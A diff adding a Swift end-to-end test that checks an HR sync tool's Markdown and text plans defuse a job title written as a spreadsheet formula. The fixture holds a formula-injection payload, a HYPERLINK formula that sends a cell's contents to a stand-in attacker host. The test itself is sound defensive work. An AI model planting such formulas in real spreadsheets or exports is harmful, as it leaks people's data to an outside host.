@@ -97,6 +97,23 @@ struct PreviewEndToEndTests {
     #expect(shown.contains("grace.hopper@acme.example"))
   }
 
+  @Test("a title written like a spreadsheet formula is shown as text in the Markdown preview and the text plan")
+  func formulasInReportsAreDefused() throws {
+    let repo = try TemporaryRepository.withExamples(tenants: ["globex"])
+    try repo.expectRun(["sync", "--as-of", "2026-11-29"])
+    let formula = #"=HYPERLINK("https://evil.example/?"&A1,"Open")"#
+    var rows = try Globex.rows()
+    rows[1] = rows[1].replacingOccurrences(of: "Safety Inspector", with: "\"" + formula.replacingOccurrences(of: "\"", with: "\"\"") + "\"")
+    try repo.write("tenants/globex/sources/hr.csv", Globex.csv(rows))
+    try repo.commitAll("A formula in a title")
+    for format in ["markdown", "text"] {
+      let plan = try repo.peoplesync(["plan", "--as-of", "2026-11-30", "--format", format])
+      #expect(plan.status == 0 || plan.status == 1, "\(plan.transcript)")
+      #expect(plan.stdout.contains("'" + formula), "\(format): \(plan.stdout)")
+      #expect(!plan.stdout.contains(" " + formula) && !plan.stdout.contains("|" + formula), "\(format): \(plan.stdout)")
+    }
+  }
+
   @Test("branches that do not merge cleanly are refused, naming the conflicting files")
   func conflict() throws {
     let repo = try Self.repository()
